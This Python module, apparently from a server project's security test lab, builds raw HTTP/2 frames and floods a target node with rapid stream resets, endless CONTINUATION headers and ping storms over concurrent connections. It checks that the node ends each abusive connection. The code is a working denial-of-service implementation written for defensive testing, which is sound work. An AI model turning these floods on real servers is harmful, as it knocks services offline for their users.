"""Attacks that only HTTP/2 allows: endless resets, continuations and pings."""

import asyncio
import contextlib
from collections.abc import Sequence

from ccfpy.http.http2_frames import PREFACE
from tests.lab.attacks.attack import Attack, Family, Target
from tests.lab.attacks.bounds import Spend
from tests.lab.attacks.wires import NoAnswer, connected, stranger_context

CONNECTIONS = 8
FRAMES = 20_000
"""On each connection: far more than any client has use for."""
FRAMES_AT_ONCE = 200
CONTINUATION_BYTES = 16_000
CONTINUATIONS = 1_000
ROUNDS = 3
"""How often each connection is made again after the node ended it."""

_HEADERS, _RST_STREAM, _SETTINGS, _PING, _CONTINUATION = 1, 3, 4, 6, 9
_END_STREAM, _END_HEADERS = 0x1, 0x4
_CANCEL = bytes.fromhex("00000008")
_FIRST_STREAM = 1


def frame(kind: int, *, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    """Return a frame (RFC 9113, 4.1)."""
    return (
        len(payload).to_bytes(3, "big")
        + bytes([kind, flags])
        + stream.to_bytes(4, "big")
        + payload
    )


def header_block(path: str) -> bytes:
    """Return a GET's headers, compressed as little as may be (RFC 7541, 6)."""
    written = path.encode()
    return b"\x82\x87\x01\x01a\x04" + bytes([len(written)]) + written


GREETING = PREFACE + frame(_SETTINGS)


def resets(first: int, count: int) -> bytes:
    """Return requests that are each reset at once, beginning with a stream's id."""
    block = header_block("/node/api")
    flags = _END_STREAM | _END_HEADERS
    return b"".join(
        frame(_HEADERS, flags=flags, stream=stream, payload=block)
        + frame(_RST_STREAM, stream=stream, payload=_CANCEL)
        for stream in range(first, first + 2 * count, 2)
    )


async def rapid_resets(target: Target, spend: Spend) -> Sequence[str]:
    """Send requests and reset each at once, without end."""
    pieces = [
        resets(_FIRST_STREAM + 2 * done, FRAMES_AT_ONCE)
        for done in range(0, FRAMES, FRAMES_AT_ONCE)
    ]
    return await _flood(target, spend, pieces)


async def continuations(target: Target, spend: Spend) -> Sequence[str]:
    """Begin headers that never end."""
    begin = frame(_HEADERS, stream=_FIRST_STREAM, payload=header_block("/node/api"))
    more = frame(
        _CONTINUATION, stream=_FIRST_STREAM, payload=b"\x00" * CONTINUATION_BYTES
    )
    return await _flood(target, spend, [begin, *[more] * CONTINUATIONS])


async def pings(target: Target, spend: Spend) -> Sequence[str]:
    """Send pings without end."""
    some = frame(_PING, payload=bytes(8)) * FRAMES_AT_ONCE
    return await _flood(target, spend, [some] * (FRAMES // FRAMES_AT_ONCE))


async def _flood(
    target: Target, spend: Spend, pieces: Sequence[bytes]
) -> Sequence[str]:
    """Send the frames over each connection until it is closed."""
    context = stranger_context()
    context.set_alpn_protocols(["h2"])
    ended: list[bool] = []

    async def one() -> None:
        for _ in range(ROUNDS):
            with contextlib.suppress(NoAnswer):
                async with connected(
                    target.http2_address, spend, context=context
                ) as wire:
                    await wire.send(GREETING)
                    for piece in pieces:
                        await wire.send(piece)
                        await asyncio.sleep(0)
                    ended.append(await wire.is_closed(within_s=2))

    async with asyncio.TaskGroup() as group:
        for _ in range(CONNECTIONS):
            group.create_task(one())
    return () if all(ended) else ["a flood did not end its connection"]


ATTACKS = (
    Attack(
        name="resets",
        family=Family.FAIRNESS,
        about="requests of HTTP/2 that are taken back at once",
        perform=rapid_resets,
    ),
    Attack(
        name="continuations",
        family=Family.FAIRNESS,
        about="headers of HTTP/2 that go on without end",
        perform=continuations,
        is_quick=False,
    ),
    Attack(
        name="pings",
        family=Family.FAIRNESS,
        about="pings of HTTP/2 without end",
        perform=pings,
        is_quick=False,
    ),
)
